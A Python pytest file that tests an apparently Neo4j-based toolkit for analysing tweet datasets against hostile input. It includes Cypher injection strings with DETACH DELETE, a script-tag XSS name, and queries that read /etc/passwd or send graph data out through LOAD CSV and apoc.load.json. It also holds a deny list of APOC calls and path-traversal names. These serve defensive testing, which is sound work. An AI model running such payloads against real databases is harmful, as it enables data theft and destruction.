"""Nothing let in, nothing let out: dataset and file names carrying Cypher or HTML are
stored as plain values and never run; the Cypher the toolkit builds at run time is listed
here and built from closed lists only; the password never shows in any output.

(Parameters and user query files that try to write are test_catalog's; the password
file's 0600 mode is test_db's.)"""

from __future__ import annotations

import ast
import csv
import json
import re
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import LiteralString, cast

import pytest
from helpers import infoops, write_hostile_ring
from shared_data import fixture
from test_hostile_input import Ran
from test_hostile_input import cli as in_process_cli

from toolkit.db.connect import Graph
from toolkit.db.server import free_port
from toolkit.db.settings import Settings
from toolkit.detect.events import QUERIES, Kind
from toolkit.errors import AuthFailed, CannotConnect, QueryFailed
from toolkit.inert import BIDI_CONTROLS
from toolkit.queries.readonly import allowed_call, calls

cli = in_process_cli  # the fixture: `infoops ARGS` run in this process
TOOLKIT = Path(__file__).resolve().parent.parent / "toolkit"
NAMES = [
    'x"}) DETACH DELETE n //',
    "x'}) DETACH DELETE n //",
    "`x` MATCH (n) DETACH DELETE n",
    "$name } SET n.owned = true //",
    "<script>alert(1)</script>",
    "ünï 中文 \\ \\' \\u0027",
]


def _canary(graph: Graph) -> int:
    """Nodes of a dataset loaded first, which any injected DELETE or SET would touch."""
    return int(graph.read("MATCH (n) WHERE n.owned IS NULL RETURN count(n) AS n")[0]["n"])


@pytest.fixture
def canary(graph: Graph, cli: Callable[..., Ran], tmp_path: Path) -> int:
    loaded = cli("load", str(fixture("dirty_2.json")), "--dataset", "canary", "--rejects",
                 str(tmp_path / "canary.csv"))
    assert loaded.returncode == 0, loaded.stderr
    return _canary(graph)


def test_hostile_dataset_and_file_names_are_stored_literally(
        graph: Graph, canary: int, cli: Callable[..., Ran], tmp_path: Path) -> None:
    """Each name loads as a dataset of its own, named exactly so, with its file's path
    (quotes, backticks and all) in `files`; nothing else in the graph changes."""
    added = 0
    for number, name in enumerate(NAMES):
        folder = tmp_path / f"d{number}"
        folder.mkdir()
        path = folder / (name.replace("/", "_") + "_tweets.csv")
        path.write_text("tweetid,userid,tweet_time,tweet_text\n"
                        f"{1134828248637558455 + (number << 22)},9{number},2019-06-01 12:00,"
                        "hi\n", encoding="utf-8")
        loaded = cli("load", str(path), "--dataset", name, "--rejects",
                     str(tmp_path / f"r{number}.csv"))
        assert loaded.returncode == 0, loaded.stderr
        got = graph.read("MATCH (d:Dataset {name: $name})<-[:IN_DATASET]-(a:Account)-[:POSTED]->"
                         "(t:Tweet {dataset: $name}) RETURN d.files AS files, a.userid AS a",
                         name=name)
        assert got == [{"files": [str(path)], "a": f"9{number}"}]
        added += 3  # dataset, account, tweet
    assert _canary(graph) == canary + added
    names = {r["n"] for r in graph.read("MATCH (d:Dataset) RETURN d.name AS n")}
    assert names == {"canary", *NAMES}


def test_hostile_dataset_in_report_query_and_export_is_only_a_value(
        graph: Graph, canary: int, cli: Callable[..., Ran], tmp_path: Path) -> None:
    """`--dataset` / `-p dataset=` values reach Cypher as parameters: a hostile name that
    is no dataset is refused in one line (exit 2, nothing written), one that is a dataset
    matches exactly that dataset; the graph is untouched either way."""
    for number, name in enumerate(NAMES):
        report = tmp_path / f"report{number}.html"
        out = tmp_path / f"retweets{number}.graphml"
        for args in (["query", "run", "top-hashtags", "-p", f"dataset={name}", "--format",
                      "json"], ["report", "--dataset", name, "--out", str(report)],
                     ["export", "graphml", "--what", "retweets", "--dataset", name, "--out",
                      str(out)]):
            refused = cli(*args)
            assert refused.returncode == 2, refused.stderr
            assert refused.stdout == "" and refused.stderr.count("\n") == 1
            assert refused.stderr.startswith("error: parameter 'dataset': no dataset ")
        assert not report.exists() and not out.exists()
    assert _canary(graph) == canary
    for number, name in enumerate(NAMES):  # now each name is a dataset of one tweet
        path = tmp_path / f"t{number}_tweets.csv"
        path.write_text("tweetid,userid,tweet_time,tweet_text,hashtags\n"
                        f"{1134828248637558455 + (number << 22)},9{number},2019-06-01 12:00,"
                        "hi,[tag]\n", encoding="utf-8")
        assert cli("load", str(path), "--dataset", name, "--rejects",
                   str(tmp_path / f"r{number}.csv")).returncode == 0
    for name in NAMES:
        result = cli("query", "run", "top-hashtags", "-p", f"dataset={name}", "--format",
                     "json")
        assert result.returncode == 0, result.stderr
        assert [r["tweets"] for r in json.loads(result.stdout)] == [1]  # its own tweet only
    # a dataset, an account and a tweet each, and the hashtag they share
    assert _canary(graph) == canary + 3 * len(NAMES) + 1


def test_report_escapes_a_hostile_dataset_that_exists(
        graph: Graph, cli_env: dict[str, str], tmp_path: Path) -> None:
    """A dataset really named like a script tag shows as text in the report."""
    name = "<script>alert(1)</script>"
    infoops("load", str(fixture("dirty_2.json")), "--dataset", name, "--rejects",
            str(tmp_path / "r.csv"), env=cli_env)
    report = tmp_path / "report.html"
    infoops("report", "--dataset", name, "--out", str(report), env=cli_env)
    html = report.read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert name not in html


# --- dynamic Cypher: every place it is assembled, and where its parts come from ---------

# Modules allowed to assemble query text at run time, and why each is safe.
ASSEMBLED = {
    "detect/events.py": "QUERIES: module constants joined at import, one per Kind (enum)",
    "load/plans.py": "'EXPLAIN ' + a toolkit.load.cypher constant",
    "load/statistics.py": "recounts and the touched-nodes read: literals of the module's "
                          "fixed Statistic list (labels, keys, paths) joined at import",
    "queries/runner.py": "'EXPLAIN ' + catalog text, validated by queries/catalog.py",
}
# The only places text becomes `LiteralString` by cast.
CASTS = {"queries/catalog.py", "db/schema.py"}
_CYPHER = re.compile(r"\b(MATCH|MERGE|CREATE|DELETE|SET|REMOVE|RETURN|UNWIND|CALL|EXPLAIN|"
                     r"WITH|WHERE|LOAD CSV|FOREACH)\b")


def _modules() -> list[tuple[str, ast.Module]]:
    return [(str(p.relative_to(TOOLKIT)), ast.parse(p.read_text(encoding="utf-8")))
            for p in sorted(TOOLKIT.rglob("*.py"))]


def _cypher_constant(node: ast.AST) -> bool:
    return (isinstance(node, ast.Constant) and isinstance(node.value, str)
            and _CYPHER.search(node.value) is not None and node.value.strip() != "")


def test_no_fstring_or_format_builds_cypher() -> None:
    """Values go in as $parameters: no f-string, %-format or .format() holds Cypher."""
    found = []
    for name, tree in _modules():
        for node in ast.walk(tree):
            if isinstance(node, ast.JoinedStr) and any(
                    _cypher_constant(v) and re.search(r"\b(MATCH|MERGE|UNWIND|RETURN)\b",
                                                      v.value)  # type: ignore[attr-defined]
                    for v in node.values):
                found.append(f"{name}:{node.lineno} f-string")
            if (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)
                    and node.func.attr == "format" and _cypher_constant(node.func.value)):
                found.append(f"{name}:{node.lineno} .format")
            if (isinstance(node, ast.BinOp) and isinstance(node.op, ast.Mod)
                    and _cypher_constant(node.left)):
                found.append(f"{name}:{node.lineno} %")
    assert found == []


def test_cypher_assembled_at_run_time_only_where_listed() -> None:
    """`+` or `.replace()` on Cypher text, and casts to LiteralString, happen only in the
    listed modules: adding one elsewhere fails here until it is reviewed and listed."""
    assembled, casts = set(), set()
    for name, tree in _modules():
        for node in ast.walk(tree):
            if isinstance(node, ast.BinOp) and isinstance(node.op, ast.Add) and (
                    _cypher_constant(node.left) or _cypher_constant(node.right)):
                assembled.add(name)
            if (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)
                    and node.func.attr == "replace" and _cypher_constant(node.func.value)):
                assembled.add(name)
            if (isinstance(node, ast.Call) and isinstance(node.func, ast.Name)
                    and node.func.id == "cast" and node.args
                    and "LiteralString" in ast.unparse(node.args[0])):
                casts.add(name)
    assert assembled <= set(ASSEMBLED), assembled - set(ASSEMBLED)
    assert casts <= CASTS, casts - CASTS


def test_detection_queries_come_from_the_closed_kind_list() -> None:
    """One query per Kind and nothing else; none has a slot left to fill at run time."""
    assert set(QUERIES) == set(Kind)
    for kind, text in QUERIES.items():
        assert "{" not in text.replace("{epochMillis", "").replace("COUNT {", ""), kind
        assert "$dataset" in text and "$accounts" in text


def test_no_dynamic_labels_types_or_property_keys() -> None:
    """Labels, relationship types and property keys are written out in every query the
    toolkit ships (no `$(...)` dynamic labels, no apoc.create.* or n[$key] writes)."""
    dynamic = re.compile(r":\s*\$\(|apoc\.create\.|apoc\.merge\.|\w\[\$\w+\]\s*=")
    texts = [(str(p), p.read_text(encoding="utf-8"))
             for p in [*TOOLKIT.rglob("*.py"), *TOOLKIT.parent.joinpath("cypher").rglob("*")]
             if p.is_file() and p.suffix in (".py", ".cypher")]
    assert [name for name, text in texts if dynamic.search(text)] == []


# --- secrets --------------------------------------------------------------------------------


def test_password_never_appears_in_any_output(graph: Graph, neo4j_settings: Settings,
                                              cli: Callable[..., Ran], cli_env: dict[str, str],
                                              tmp_path: Path) -> None:
    """Every command, plain and with --debug, and the wrong-password error (with its
    traceback): the password is in no stream and no file written."""
    password = neo4j_settings.password or ""
    assert len(password) >= 6
    bad = tmp_path / "bad_tweets.csv"
    bad.write_text("tweetid,userid,tweet_time\n1134828248637558455,111,2019-06-01 12:00\n"
                   "x,111,2019-06-01 12:00\n")
    out = tmp_path / "out"
    out.mkdir()
    steps = [
        ["db", "status"],
        ["load", str(fixture("flat.jsonl")), str(bad), "--dataset", "s",
         "--rejects", str(out / "rejects.csv")],
        ["query", "run", "top-hashtags", "--format", "csv", "--out", str(out / "q.csv")],
        ["detect", "co-retweet", "--window", "60", "--null-reps", "5"],
        ["report", "--out", str(out / "report.html")],
        ["export", "gexf", "--what", "coordination", "--out", str(out / "c.gexf")],
        ["export", "graphml", "--what", "retweets", "--out", str(out / "r.graphml")],
    ]
    streams = []
    for step in steps:  # in this process: quick, same streams
        result = cli(*step)
        assert result.returncode == 0, result.stderr
        streams += [result.stdout, result.stderr]
    for step in steps:  # --debug as a real process: tracebacks and all
        result = infoops("--debug", *step, env=cli_env)
        streams += [result.stdout, result.stderr]
    for debug in ([], ["--debug"]):
        wrong = infoops(*debug, "query", "run", "top-hashtags",
                        env={**cli_env, "NEO4J_PASSWORD": password[::-1]}, check=False)
        assert wrong.returncode == (1 if debug else AuthFailed.exit_code)
        streams += [wrong.stdout, wrong.stderr]
    assert "Traceback" in streams[-1]  # --debug really showed the wrong-password traceback
    written = [p.read_text(encoding="utf-8", errors="replace") for p in out.iterdir()]
    assert {p.name for p in out.iterdir()} >= {"rejects.csv", "q.csv", "report.html",
                                               "c.gexf", "r.graphml"}
    for text in streams + written:
        assert password not in text
        assert password[::-1] not in text


# --- hostile query files: no outbound requests, no file access ---------------------------


class _Listener:
    """A web server on 127.0.0.1 that notes every request: the address a hostile query
    would send graph data to."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        listener = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                listener.requests.append(self.path)
                self.send_response(200)
                self.end_headers()
                self.wfile.write(b'{"a": 1}\n')

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def listener() -> Iterator[_Listener]:
    served = _Listener()
    yield served
    served.close()


def _outbound(url: str) -> dict[str, str]:
    """Queries that pass as reads (the planner calls each "r") yet fetch or read."""
    return {
        "load-csv-url": f"MATCH (a:Account) LOAD CSV FROM '{url}/' + a.userid AS row "
                        "RETURN row",
        "load-csv-file": "LOAD CSV FROM 'file:///etc/passwd' AS row RETURN row",
        "apoc-load-json": f"CALL apoc.load.json('{url}/leak') YIELD value RETURN value",
        "apoc-load-in-subquery": f"MATCH (a:Account) CALL (a) {{ CALL apoc.load.json("
                                 f"'{url}/' + a.userid) YIELD value RETURN value }} "
                                 "RETURN a.userid, value",
    }


@pytest.mark.parametrize("kind", ["load-csv-url", "load-csv-file", "apoc-load-json",
                                  "apoc-load-in-subquery"])
def test_query_files_that_reach_out_are_refused_before_they_run(
        graph: Graph, canary: int, listener: _Listener, cli: Callable[..., Ran],
        tmp_path: Path, kind: str) -> None:
    """LOAD CSV and apoc.load.* plan as reads: the runner walks the plan and refuses them
    (exit 7, one line naming what) before anything runs, in `query run -f` and in a batch
    step, whose other steps then write nothing either; the web server hears nothing."""
    path = tmp_path / "q.cypher"
    path.write_text("// ---\n// name: leak\n// title: Leak\n// category: mine\n"
                    f"// description: sends data out\n// ---\n{_outbound(listener.url)[kind]}\n",
                    encoding="utf-8")
    result = cli("query", "run", "-f", str(path), "--format", "json")
    assert result.returncode == 7 and result.stdout == ""
    assert result.stderr.count("\n") == 1
    what = "LOAD CSV" if kind.startswith("load-csv") else "it calls apoc.load.json"
    assert result.stderr.startswith(f"error: query 'leak' ({path}) is not read-only: ")
    assert what in result.stderr
    spec = tmp_path / "batch.toml"
    spec.write_text('[[query]]\nname = "top-hashtags"\n\n[[query]]\nfile = "q.cypher"\n',
                    encoding="utf-8")
    batch = cli("query", "batch", str(spec), "--out-dir", str(tmp_path / "results"))
    assert batch.returncode == 7 and what in batch.stderr
    assert not (tmp_path / "results").exists()
    assert listener.requests == []
    assert _canary(graph) == canary


@pytest.mark.parametrize("kind", ["load-csv-url", "load-csv-file", "apoc-load-json"])
def test_the_local_server_refuses_outbound_requests_and_files_itself(
        graph: Graph, canary: int, listener: _Listener, kind: str) -> None:
    """The second line, for a client that skips the runner's check: the server that
    `infoops db start` configures (neo4j/neo4j.conf.template, neo4j/apoc.conf) blocks
    every address for Cypher's and APOC's outbound requests and refuses file URLs."""
    with pytest.raises(QueryFailed) as caught:
        graph.read(cast(LiteralString, _outbound(listener.url)[kind]))
    assert ("internal.dbms.cypher_ip_blocklist" in str(caught.value)
            or "allow_csv_import_from_file_urls" in str(caught.value))
    assert listener.requests == []


def test_the_allow_list_reads_calls_from_plan_details() -> None:
    """What the plan walker takes for a call: namespaced names before `(`, wherever they
    sit in an operator's details, but not in a backticked alias."""
    assert calls("apoc.text.clean(cache[n.x]) AS `apoc.load.json(x)`, count(*)") == [
        "apoc.text.clean"]
    assert calls("apoc.load.json($autostring_0) :: (value :: MAP)") == ["apoc.load.json"]
    assert calls("n.name = $autostring_0 AND (n)-[anon_0]->(m)") == []
    assert [allowed_call(n) for n in ("apoc.coll.sum", "date.truncate", "dbms.components",
                                      "APOC.TEXT.clean")] == [True] * 4
    assert not any(allowed_call(n) for n in (
        "apoc.load.json", "apoc.import.csv", "apoc.export.csv.all", "apoc.cypher.run",
        "apoc.periodic.iterate", "dbms.setConfigValue", "apoc.util.sleep", "gds.graph.drop",
        "apoc.spatial.geocode", "db.createLabel"))


# --- hostile data in terminals, spreadsheets, HTML and file names -------------------------


@pytest.fixture
def ring(graph: Graph, cli_env: dict[str, str], tmp_path: Path) -> str:
    """The hostile ring of `helpers.write_hostile_ring` loaded and detected; its ring_id."""
    path = write_hostile_ring(tmp_path / "ring_tweets.csv")
    infoops("load", str(path), "--dataset", "ring", "--rejects", str(tmp_path / "r.csv"),
            env=cli_env)
    infoops("detect", "co-retweet", "--window", "60", "--min-weight", "3", "--null-reps",
            "0", "--weighting", "count", "--keep-all", env=cli_env)  # 3 accounts: IDF is 0
    rings = graph.read("MATCH (g:Ring) RETURN g.ring_id AS id")
    assert len(rings) == 1
    return str(rings[0]["id"])


def _raw_controls(text: str) -> list[str]:
    """Control and bidi characters a terminal would act on (line ends and tabs aside)."""
    return sorted({c for c in text if (ord(c) < 32 and c not in "\n\t") or c == "\x7f"
                   or 0x80 <= ord(c) < 0xa0 or c in BIDI_CONTROLS})


def test_text_from_the_data_is_shown_not_run_by_the_terminal(
        ring: str, cli_env: dict[str, str], tmp_path: Path) -> None:
    """Screen names and texts holding an escape sequence, an OSC title change, rich markup
    and a right-to-left override print with those written out (`\\x1b`, `\\u202e`) in
    `rings show --evidence`, `rings list` and query tables; markup is shown, not read."""
    shown = infoops("rings", "show", ring, "--evidence", env=cli_env)
    query = tmp_path / "names.cypher"
    query.write_text("// ---\n// name: names\n// title: Names \x1b[2J\n// category: mine\n"
                     "// description: names\n// ---\nMATCH (a:Account)-[:POSTED]->(t:Tweet) "
                     "RETURN a.screen_name AS name, t.text AS text ORDER BY name\n",
                     encoding="utf-8")
    table = infoops("query", "run", "-f", str(query), env=cli_env)
    listed = infoops("rings", "list", env=cli_env)
    for result in (shown, table, listed):
        assert _raw_controls(result.stdout + result.stderr) == []
    squashed = re.sub(r"[\s│┃]+", "", shown.stdout + table.stdout)
    for name in ("\\x1b[31mred\\x1b[0m", "[/x][bold]evil", "abc\\u202etxt.exe",
                 "RT\\x1b]0;pwned\\x07@origin"):
        assert name in squashed, name


def test_markup_in_messages_and_help_is_printed_as_it_is(
        cli: Callable[..., Ran], tmp_path: Path) -> None:
    """A file name holding rich markup and an escape sequence in an error message: one
    inert line (rich used to raise inside the error handler); `[[query]]` in help."""
    missing = tmp_path / "[/x][red]q\x1b[2J.cypher"
    result = cli("query", "run", "-f", str(missing))
    assert result.returncode == 3 and result.stderr.count("\n") == 1
    assert "Traceback" not in result.stderr and _raw_controls(result.stderr) == []
    assert "[/x][red]q\\x1b[2J.cypher" in result.stderr
    helped = cli("query", "batch", "--help")
    assert helped.returncode == 0 and "TOML file listing [[query]] steps" in helped.stdout


def test_report_shows_bidi_overrides_instead_of_obeying_them(
        ring: str, cli_env: dict[str, str], tmp_path: Path) -> None:
    """An override in a name would reverse the rest of its line of the page: the report
    writes it out, escaped like everything else."""
    report = tmp_path / "report.html"
    infoops("report", "--out", str(report), env=cli_env)
    html = report.read_text(encoding="utf-8")
    assert "abc\\u202etxt.exe" in html
    assert not BIDI_CONTROLS & set(html)
    assert "\x1b" not in html and "\\x1b[31mred" in html


def test_csv_cells_that_start_like_formulas_are_text(
        ring: str, graph: Graph, cli: Callable[..., Ran], tmp_path: Path) -> None:
    """Hashed ids starting with `+` and texts starting with `=` or `-` get a leading `'` in
    every CSV infoops writes (query results, batch results, the rejects report), so a
    spreadsheet shows them as text; JSON keeps the raw values; numbers stay numbers."""
    query = tmp_path / "q.cypher"
    query.write_text("// ---\n// name: q\n// title: Q\n// category: mine\n// description: q\n"
                     "// ---\nMATCH (a:Account)-[:POSTED]->(t:Tweet) WHERE t.text STARTS "
                     "WITH '=' OR a.userid STARTS WITH '+' RETURN a.userid AS userid, "
                     "t.text AS text, -1 AS minus ORDER BY userid, text\n", encoding="utf-8")
    as_csv = tmp_path / "q.csv"
    assert cli("query", "run", "-f", str(query), "--format", "csv", "--out",
               str(as_csv)).returncode == 0
    as_json = json.loads(cli("query", "run", "-f", str(query), "--format", "json").stdout)
    with open(as_csv, encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == len(as_json) == 6
    for row, raw in zip(rows, as_json, strict=True):
        assert raw["userid"][0] in "+9" and raw["text"][0] in "=R"
        assert row["userid"] == ("'" + raw["userid"] if raw["userid"][0] == "+"
                                 else raw["userid"])
        assert row["text"] == ("'" + raw["text"] if raw["text"][0] == "=" else raw["text"])
        assert row["minus"] == "-1"
    spec = tmp_path / "b.toml"
    spec.write_text('[[query]]\nfile = "q.cypher"\nout = "q.csv"\n', encoding="utf-8")
    assert cli("query", "batch", str(spec), "--out-dir", str(tmp_path / "b")).returncode == 0
    assert (tmp_path / "b" / "q.csv").read_text(encoding="utf-8") == as_csv.read_text(
        encoding="utf-8")
    bad = tmp_path / "bad_tweets.csv"
    bad.write_text("tweetid,userid,tweet_time\n=1+2,111,2019-06-01 12:00\n"
                   "-3,@x,2019-06-01 12:00\n", encoding="utf-8")
    rejects = tmp_path / "rejects.csv"
    assert cli("load", str(bad), "--dataset", "bad", "--rejects", str(rejects)
               ).returncode == 0
    with open(rejects, encoding="utf-8", newline="") as f:
        raws = [r["raw"] for r in csv.DictReader(f)]
    assert raws == ["'=1+2,111,2019-06-01 12:00", "'-3,@x,2019-06-01 12:00"]


def test_dataset_names_never_become_paths(graph: Graph, cli: Callable[..., Ran],
                                          tmp_path: Path,
                                          monkeypatch: pytest.MonkeyPatch) -> None:
    """The default rejects report is `<dataset>.rejects.csv` in the current folder, the name
    made one safe file name: '../../escape', an absolute name and a name with '/' all
    write here, and each loads as a dataset of that exact name."""
    work = tmp_path / "a" / "b" / "work"
    work.mkdir(parents=True)
    monkeypatch.chdir(work)
    bad = tmp_path / "one_bad_tweets.csv"
    bad.write_text("tweetid,userid,tweet_time\n1134828248637558455,111,2019-06-01 12:00\n"
                   "x,111,2019-06-01 12:00\n", encoding="utf-8")
    names = ["../../escape", "with/slash", "..", str(tmp_path / "abs" / "evil")]
    for name in names:
        result = cli("load", str(bad), "--dataset", name)
        assert result.returncode == 0, result.stderr
    written = sorted(p.name for p in work.iterdir())
    assert len(written) == 4 and all(n.endswith(".rejects.csv") for n in written)
    assert {"escape.rejects.csv", "with_slash.rejects.csv", "dataset.rejects.csv"
            } < set(written)
    assert not (tmp_path / "a" / "escape.rejects.csv").exists()
    assert not (tmp_path / "abs").exists()
    datasets = {r["n"] for r in graph.read("MATCH (d:Dataset) RETURN d.name AS n")}
    assert datasets == set(names)
    assert [p for p in tmp_path.rglob("*.rejects.csv") if p.parent != work] == []


def test_credentials_in_the_uri_are_used_and_never_shown(
        graph: Graph, neo4j_settings: Settings, cli_env: dict[str, str],
        tmp_path: Path) -> None:
    """`NEO4J_URI=bolt://user:password@host` works, and the password is in no output, no
    error message and no file written (the batch manifest keeps the URI without it)."""
    password = neo4j_settings.password or ""
    scheme, rest = neo4j_settings.uri.split("://", 1)
    env = {k: v for k, v in cli_env.items() if k != "NEO4J_PASSWORD"}
    env["NEO4J_URI"] = f"{scheme}://neo4j:{password}@{rest}"
    status = infoops("db", "status", env=env)
    assert f"uri:       {neo4j_settings.uri}\n" in status.stdout
    spec = tmp_path / "b.toml"
    spec.write_text('[[query]]\nname = "dataset-summary"\n', encoding="utf-8")
    infoops("query", "batch", str(spec), "--out-dir", str(tmp_path / "out"), env=env)
    manifest = json.loads((tmp_path / "out" / "manifest.json").read_text(encoding="utf-8"))
    assert manifest["database"]["uri"] == neo4j_settings.uri
    wrong_port = {**env, "NEO4J_URI": f"{scheme}://neo4j:{password}@127.0.0.1:{free_port()}"}
    wrong_scheme = {**env, "NEO4J_URI": f"http://neo4j:{password}@{rest}"}
    outputs = [status.stdout, status.stderr, json.dumps(manifest)]
    for bad in (wrong_port, wrong_scheme):
        for debug in ([], ["--debug"]):
            failed = infoops(*debug, "db", "status", env=bad, check=False)
            assert failed.returncode == (1 if debug else CannotConnect.exit_code)
            outputs += [failed.stdout, failed.stderr]
    assert "bolt|bolt+s|bolt+ssc|neo4j|neo4j+s|neo4j+ssc" in outputs[-3]
    assert all(password not in text for text in outputs)
